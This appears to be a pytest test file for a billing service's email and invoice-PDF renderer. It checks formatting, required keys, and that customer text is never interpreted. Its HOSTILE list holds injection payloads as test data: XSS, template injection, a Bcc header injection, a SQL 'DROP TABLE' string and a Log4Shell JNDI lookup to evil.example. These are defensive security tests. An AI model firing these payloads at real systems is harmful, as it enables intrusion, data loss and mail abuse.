"""Every mail with all optional facts and with none, and customers' text that is never interpreted."""

from __future__ import annotations

import email
import html.parser
import re
import unicodedata
from datetime import UTC, datetime
from email import policy
from email.message import EmailMessage
from typing import Any

import pytest

from activities import formatting
from activities.invoice_pdf import render_invoice_pdf
from activities.mail_rendering import SUBJECT_LIMIT, TEMPLATES, MailRenderer, Recipient, RenderingError
from activities.notification_keys import ALLOWED_KEYS, REQUIRED_KEYS
from activities.notifications import SmtpNotificationActivities
from db.queries.invoice_documents import InvoiceDocumentData, InvoiceLineData
from db.queries.outbox_delivery import ClaimedNotification
from tests.support.notification_fixture import PUBLIC_URL, SENDER
from workflows.rules.money import Money
from workflows.rules.notifications import NotificationKind

AT = datetime(2027, 1, 31, 10, tzinfo=UTC)
READER = Recipient(name="Ada Lovelace", organization_name="Analytical Engines Ltd", timezone="Europe/Paris")
UNKNOWN_RECIPIENT = Recipient(name=None, organization_name=None, timezone=None)
USD_15 = {"amount_minor": 1500, "currency": "USD"}

EXAMPLES: dict[str, Any] = {
    "amount": USD_15,
    "balance": {"amount_minor": 250, "currency": "USD"},
    "credit": {"amount_minor": 725, "currency": "USD"},
    "credited": USD_15,
    "credit_reversed": {"amount_minor": 725, "currency": "USD"},
    "promotional_credit": {"amount_minor": 725, "currency": "USD"},
    "promotional_credit_reversed": {"amount_minor": 725, "currency": "USD"},
    "price": {"amount_minor": 2000, "currency": "USD"},
    "carried": {"amount_minor": 5, "currency": "USD"},
    "carried_debt": {"amount_minor": 20, "currency": "USD"},
    "debt_paid": {"amount_minor": 20, "currency": "USD"},
    "days": 3,
    "cancel_at_period_end": False,
    "balance_too_low": True,
    "url": "https://notes.apps.berth.example",
    "hostname": "notes.apps.berth.example",
    "to": "wallet",
    "last4": "4242",
    "severity": "critical",
    "decline_code": "insufficient_funds",
}
INSTANTS = {
    "period_start", "period_end", "due_at", "next_retry_at", "data_deletion_at", "expires_at", "trial_end",
    "suspends_at", "cancels_at", "effective_at", "next_charge_at",
}  # fmt: skip


def full() -> dict[str, Any]:
    """Return a context with every key that a mail may use."""
    context = {key: EXAMPLES.get(key, f"some {key}") for key in ALLOWED_KEYS}
    return context | dict.fromkeys(INSTANTS, "2027-02-28T10:00:00+00:00")


def minimal(kind: NotificationKind) -> dict[str, Any]:
    return {key: EXAMPLES.get(key, f"some {key}") for key in REQUIRED_KEYS[kind]}


@pytest.fixture(scope="module")
def renderer() -> MailRenderer:
    return MailRenderer(public_url=PUBLIC_URL + "/")


class Page(html.parser.HTMLParser):
    """Which elements with which attributes a page holds, and its words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.feed(page)
        assert self.open == [], "every element is closed"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "br", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def links(self) -> list[str]:
        return [attributes.get("href") or "" for tag, attributes in self.elements if tag == "a"]


def test_every_kind_has_a_template_and_says_what_it_needs() -> None:
    assert {path.stem for path in TEMPLATES.glob("*.j2")} == set(NotificationKind) == set(REQUIRED_KEYS)
    assert all(needed <= ALLOWED_KEYS for needed in REQUIRED_KEYS.values())


@pytest.mark.parametrize("reader", [READER, UNKNOWN_RECIPIENT], ids=["known", "unknown"])
@pytest.mark.parametrize("case", ["full", "minimal"])
@pytest.mark.parametrize("kind", list(NotificationKind))
def test_every_kind_renders(renderer: MailRenderer, kind: NotificationKind, case: str, reader: Recipient) -> None:
    mail = renderer.render(kind, full() if case == "full" else minimal(kind), reader)
    page = Page(mail.html)
    for text in (mail.subject, mail.text, " ".join(page.words)):
        assert not re.search(r"\bNone\b|Undefined|\{\{|\{%|  \|", text), text
    assert 3 < len(mail.subject) <= SUBJECT_LIMIT
    assert mail.subject[0].isupper() or mail.subject[0] == "[" or case == "full"
    assert mail.text.count("\n\n\n") == 0, "no holes where something is missing"
    assert all(len(line) <= 78 or "http" in line for line in mail.text.splitlines())
    assert mail.text.rstrip().endswith(PUBLIC_URL)
    # The HTML contains the sentences of the text.
    for sentence in mail.text.split("-- ")[0].split("\n\n")[:2]:
        assert " ".join(sentence.split()) in " ".join(" ".join(page.words).split())
    assert "script" not in {tag for tag, _ in page.elements}
    assert "img" not in {tag for tag, _ in page.elements}, "nothing that reports the opening of a mail"
    assert all(link.startswith("http") for link in page.links)


@pytest.mark.parametrize("kind", list(NotificationKind))
def test_what_is_missing_is_named_and_never_shown(renderer: MailRenderer, kind: NotificationKind) -> None:
    for key in REQUIRED_KEYS[kind]:
        context = minimal(kind)
        del context[key]
        with pytest.raises(RenderingError, match=key):
            renderer.render(kind, context, READER)


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% include 'layout.html' %}{{ config }}",
    "Ada\r\nBcc: victim@example.org\r\n\r\n<h1>hello</h1>",
    "a\x00b\x1b[31mc\u2028d\u202egnp.exe",
    "https://evil.example/login",
    "Label | https://evil.example",
    "\n\nA paragraph of my own\n\nLabel | value",
    "' OR 1=1; DROP TABLE users; --",
    "${jndi:ldap://evil.example/a}",
    "漢字 ಠ_ಠ 👩‍👩‍👧 ‏مرحبا",
    "x" * 5000,
]
WORDS = ("subscription_name", "plan_name", "old_plan_name", "service_name", "reason", "details", "brand")


@pytest.mark.scenario("S6")
@pytest.mark.parametrize("kind", list(NotificationKind))
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_customers_words_stay_words(renderer: MailRenderer, kind: NotificationKind, hostile: str) -> None:
    harmless = renderer.render(kind, full() | dict.fromkeys(WORDS, "Harmless"), READER)
    named = Recipient(name=hostile, organization_name=hostile, timezone=hostile[:40])
    mail = renderer.render(kind, full() | dict.fromkeys(WORDS, hostile), named)
    assert not {unicodedata.category(char) for char in mail.subject} & {"Cc", "Zl", "Zp", "Cs"}
    assert "\u202e" not in mail.subject + mail.text + mail.html
    assert len(mail.subject) <= SUBJECT_LIMIT
    assert ("49" in mail.text) is ("49" in harmless.text)
    before, after = Page(harmless.html), Page(mail.html)
    own = [(tag, attributes) for tag, attributes in after.elements if (attributes.get("href") or "") != hostile]
    assert [tag for tag, _ in own if tag not in ("a", "p")] == [
        tag for tag, _ in before.elements if tag not in ("a", "p")
    ]
    assert not {name for _, attributes in after.elements for name in attributes} - KNOWN_ATTRIBUTES
    message = composed(renderer, kind, hostile)
    assert set(message.keys()) <= HEADERS
    assert message.get_all("To") == ["ada@customer.example"]
    assert message["Bcc"] is None
    parsed = email.message_from_bytes(message.as_bytes(policy=policy.SMTP), policy=policy.default)
    assert parsed["Bcc"] is None
    assert {part.get_content_type() for part in parsed.walk()} == {
        "multipart/alternative", "text/plain", "text/html",
    }  # fmt: skip


KNOWN_ATTRIBUTES = {
    "align", "cellpadding", "cellspacing", "charset", "class", "content", "href", "lang", "name", "role", "style",
    "valign", "width",
}  # fmt: skip
HEADERS = {
    "From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "X-Berth-Kind", "X-Berth-Request-ID",
    "MIME-Version", "Content-Type",
}  # fmt: skip


def composed(renderer: MailRenderer, kind: NotificationKind, hostile: str) -> EmailMessage:
    """The mail as it is handed over, without a database behind."""
    unused: Any = None
    sender = SmtpNotificationActivities(unused, unused, renderer, unused, sender=SENDER, encryptor=None)
    notification = ClaimedNotification(
        id="ntf_1",
        organization_id="org_1",
        kind=kind,
        template_context={},
        encrypted_context=None,
        request_id="req_1",
        attempts=1,
        occurred_at=AT,
        available_at=AT,
        now=AT,
        recipient_addresses=("ada@customer.example",),
        recipient_name=hostile,
        organization_name=hostile,
        timezone="UTC",
    )
    reader = Recipient(name=hostile, organization_name=hostile, timezone="UTC")
    return sender._build_message(notification, renderer.render(kind, full() | dict.fromkeys(WORDS, hostile), reader))


@pytest.mark.scenario("S6")
def test_a_recipient_is_not_greeted_by_a_name_that_contains_a_link(renderer: MailRenderer) -> None:
    """A registration with another person's address must not put a link into the mail, nor below it."""
    for name in ("Win at evil.example", "http://evil.example", "www.evil", "mail me@evil.example", "a/b evil"):
        # A registration names the organization after its user.
        reader = Recipient(name=name, organization_name=name, timezone=None)
        mail = renderer.render("email_verification", {"token": "t"}, reader)
        assert "evil" not in mail.text + mail.html
    for name in ("Ada", "J. R. Tolkien", "O'Brien-Łukasz", "山田 太郎"):
        reader = Recipient(name=name, organization_name=None, timezone=None)
        assert f"Hello {name}, welcome" in renderer.render("email_verification", {"token": "t"}, reader).text


@pytest.mark.parametrize(
    ("minor", "currency", "expected"),
    [
        (1500, "USD", "US$15.00"),
        (15_000_000, "IDR", "IDR 150,000.00"),
        (-15_000_000, "IDR", "-IDR 150,000.00"),
        (1500, "JPY", "JP¥1,500"),
        (1, "EUR", "€0.01"),
        (-725, "GBP", "-£7.25"),
        (12345, "KWD", "KWD 12.345"),
        (123_456_789, "INR", "₹1,234,567.89"),
    ],
)
def test_money_is_exact_in_every_currency(renderer: MailRenderer, minor: int, currency: str, expected: str) -> None:
    amount = {"amount_minor": minor, "currency": currency}
    mail = renderer.render("top_up_receipt", {"amount": amount}, READER)
    assert expected in mail.text.replace("\u00a0", " ")
    assert expected in mail.subject.replace("\u00a0", " ")


def test_times_are_shown_in_the_organizations_time_zone(renderer: MailRenderer) -> None:
    context = {"subscription_id": "sub_1", "days": 3, "due_at": "2027-01-31T23:30:00+00:00"}
    paris = renderer.render("subscription_expiring", context, READER)
    assert "1 February 2027, 00:30 (Europe/Paris)" in paris.text
    nowhere = Recipient(name=None, organization_name=None, timezone="Mars/Olympus")
    assert "31 January 2027, 23:30 (UTC)" in renderer.render("subscription_expiring", context, nowhere).text


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ("past_due", "Your service is suspended on 7 March 2027 unless the invoice is paid before then."),
        ("suspended", "Your service stays suspended"),
        ("paused", "Your trial has ended and the service is paused"),
    ],
)
def test_a_failed_payment_mail_says_what_happens_to_the_service(
    renderer: MailRenderer, status: str, expected: str
) -> None:
    context = {
        "subscription_id": "sub_1",
        "status": status,
        "next_retry_at": "2027-02-28T10:00:00+00:00",
        "suspends_at": "2027-03-07T10:00:00+00:00",
    }
    text = renderer.render("payment_failed", context, READER).text
    assert expected in " ".join(text.split())


def test_tokens_are_quoted_in_links(renderer: MailRenderer) -> None:
    mail = renderer.render("password_reset", {"token": "a+b/c=&x=<>"}, READER)
    assert "https://berth.example/reset-password?token=a%2Bb%2Fc%3D%26x%3D%3C%3E" in mail.text


def facts(**changes: Any) -> InvoiceDocumentData:
    currency = changes.pop("currency", "USD")

    def money(minor: int) -> Money:
        return Money(amount_minor=minor, currency=currency)

    line = InvoiceLineData(
        description=changes.pop("description", "n8n Starter"),
        quantity=1,
        unit_price=money(1500),
        discount=money(0),
        tax=money(0),
        amount=money(1500),
        period_start=AT,
        period_end=datetime(2027, 2, 28, 10, tzinfo=UTC),
    )
    context: dict[str, Any] = {
        "id": "inv_1",
        "number": "BERTH-2027-000001",
        "status": "paid",
        "finalized_at": AT,
        "paid_at": AT,
        "period_start": AT,
        "period_end": line.period_end,
        "subtotal": money(1500),
        "tax": money(0),
        "total": money(1500),
        "due": money(0),
        "debt_paid": money(0),
        "organization_id": "org_1",
        "organization_name": "Analytical Engines Ltd",
        "country": "FR",
        "timezone": "Europe/Paris",
        "subscription_id": "sub_1",
        "subscription_name": "Notes",
        "payment_summary": "Visa ending in 4242",
        "lines": (line,) * changes.pop("count", 1),
    }
    return InvoiceDocumentData(**(context | changes))


@pytest.mark.scenario("S6")
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_an_invoice_is_a_page_whatever_its_words(hostile: str) -> None:
    content = render_invoice_pdf(facts(organization_name=hostile, subscription_name=hostile, description=hostile[:500]))
    assert content.startswith(b"%PDF-")
    assert b"/URI" not in content
    assert b"/JavaScript" not in content


@pytest.mark.parametrize("status", ["open", "paid", "void", "uncollectible"])
def test_the_same_invoice_is_the_same_bytes(status: str) -> None:
    context = facts(status=status, count=60, currency="JPY")
    assert render_invoice_pdf(context) == render_invoice_pdf(context)
    assert render_invoice_pdf(context) != render_invoice_pdf(facts(status=status, count=61, currency="JPY"))


def test_an_amount_is_never_a_float() -> None:
    wrong: Any = 15.0
    with pytest.raises(TypeError):
        formatting.format_money(wrong, "USD")
